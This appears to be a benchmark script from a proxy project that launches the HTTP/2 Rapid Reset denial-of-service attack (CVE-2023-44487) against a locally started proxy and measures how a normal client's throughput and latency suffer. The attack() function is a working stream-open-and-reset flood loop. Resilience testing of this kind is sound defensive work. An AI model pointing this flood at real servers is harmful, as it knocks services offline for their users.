"""Rapid reset (CVE-2023-44487) against ``luma-proxy run``: what other clients see.

    .venv/bin/python benchmarks/rapid_reset.py [--attack 20] [--load 8]

An attacker (the ``h2`` library, one thread) opens HTTP/2 streams and resets
them at once, in batches of 400, reconnecting whenever the proxy closes the
connection. Meanwhile h2load is a normal HTTP/2 client (``-c 4 -m 10``) on
another connection. Printed: h2load's requests/s and mean latency without and
during the attack (ratio in the same run), what the attacker got through,
and the proxy's RSS and CPU once the attacker has gone.
"""

from __future__ import annotations

import argparse
import re
import socket
import ssl
import subprocess
import sys
import threading
import time
from pathlib import Path

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))
from benchmarks import perf


def attack(port: int, until: float, stats: dict[str, int]) -> None:
    """Open and reset streams in batches of 400 until ``until``; reconnect when closed."""
    tls = ssl.create_default_context()
    tls.check_hostname, tls.verify_mode = False, ssl.CERT_NONE
    tls.set_alpn_protocols(["h2"])
    headers = [(":method", "GET"), (":scheme", "https"), (":path", "/"),
               (":authority", perf.TLS_HOST)]
    while time.monotonic() < until:
        try:
            s = tls.wrap_socket(socket.create_connection(("127.0.0.1", port), timeout=5),
                                server_hostname=perf.TLS_HOST)
        except OSError:
            stats["connect_failed"] += 1
            continue
        stats["connections"] += 1
        conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        conn.initiate_connection()
        stream = 1
        with s:
            try:
                while time.monotonic() < until:
                    for _ in range(400):
                        conn.send_headers(stream, headers, end_stream=True)
                        conn.reset_stream(stream, h2.errors.ErrorCodes.CANCEL)
                        stream += 2
                        stats["streams"] += 1
                    s.sendall(conn.data_to_send())
                    s.settimeout(0.001)
                    try:
                        data = s.recv(65536)
                    except (TimeoutError, ssl.SSLWantReadError):
                        continue
                    if not data:
                        break
                    events = conn.receive_data(data)
                    if any(isinstance(e, h2.events.ConnectionTerminated) for e in events):
                        stats["goaway"] += 1
                        break
            except (OSError, h2.exceptions.ProtocolError):
                stats["closed"] += 1


def h2load(port: int, seconds: float) -> dict[str, float]:
    cmd = ["h2load", "-c4", "-m10", f"-D{seconds:g}", f"--connect-to=127.0.0.1:{port}",
           f"https://{perf.TLS_HOST}:{port}/"]
    out = subprocess.run(cmd, capture_output=True, text=True, timeout=seconds + 60).stdout
    rps = re.search(r"finished in [\d.]+\w+, ([\d.]+) req/s", out)
    mean = re.search(r"time for request:\s+\S+\s+\S+\s+(\S+)", out)
    failed = re.search(r"(\d+) failed, (\d+) errored, (\d+) timeout", out)
    return {"rps": float(rps.group(1)) if rps else 0.0,
            "mean_ms": perf._ms(mean.group(1)) if mean else float("nan"),
            "failed": sum(int(g) for g in failed.groups()) if failed else -1,
            "cmd": " ".join(cmd)}  # type: ignore[dict-item]


def main() -> None:
    p = argparse.ArgumentParser(description=__doc__)
    p.add_argument("--attack", type=float, default=20.0, help="seconds of attack")
    p.add_argument("--load", type=float, default=8.0, help="seconds of each h2load run")
    args = p.parse_args()
    env = perf.Env()
    try:
        t = perf.start_target(env, "luma", 1)
        port, pid = t.https_port, t.proc.pid if t.proc else 0
        pids = t.pids()
        print(perf.machine_line(perf.machine()))
        rss0 = perf.rss_mib(pids[-1])
        base = h2load(port, args.load)
        stats = dict.fromkeys(("connections", "streams", "goaway", "closed",
                               "connect_failed"), 0)
        until = time.monotonic() + args.attack
        attacker = threading.Thread(target=attack, args=(port, until, stats))
        attacker.start()
        time.sleep(min(3.0, args.attack / 4))
        during = h2load(port, args.load)
        attacker.join()
        rss_end = perf.rss_mib(pids[-1])
        cpu0 = perf.cpu_seconds(pids)
        time.sleep(10)
        cpu_after = (perf.cpu_seconds(pids) - cpu0) / 10
        after = h2load(port, args.load)
        print(f"h2load: {base['cmd']}")
        print(f"normal client alone: {base['rps']:.0f} req/s, mean {base['mean_ms']:.2f} ms, "
              f"failed {base['failed']}")
        print(f"during the attack:   {during['rps']:.0f} req/s, mean {during['mean_ms']:.2f} ms, "
              f"failed {during['failed']} (ratio {during['rps'] / base['rps']:.2f})")
        print(f"after the attack:    {after['rps']:.0f} req/s, mean {after['mean_ms']:.2f} ms, "
              f"failed {after['failed']} (ratio {after['rps'] / base['rps']:.2f})")
        print(f"attacker in {args.attack:g} s: {stats['streams']:,} streams opened and reset "
              f"on {stats['connections']} connections, {stats['goaway']} GOAWAY, "
              f"{stats['closed']} closed without one")
        print(f"proxy (pid {pid}) RSS: {rss0:.0f} MiB before, {rss_end:.0f} MiB as the attack "
              f"ended; CPU in the 10 s after: {cpu_after:.2f} cores")
        perf.stop_target(env, t)
    finally:
        env.close()


if __name__ == "__main__":
    main()
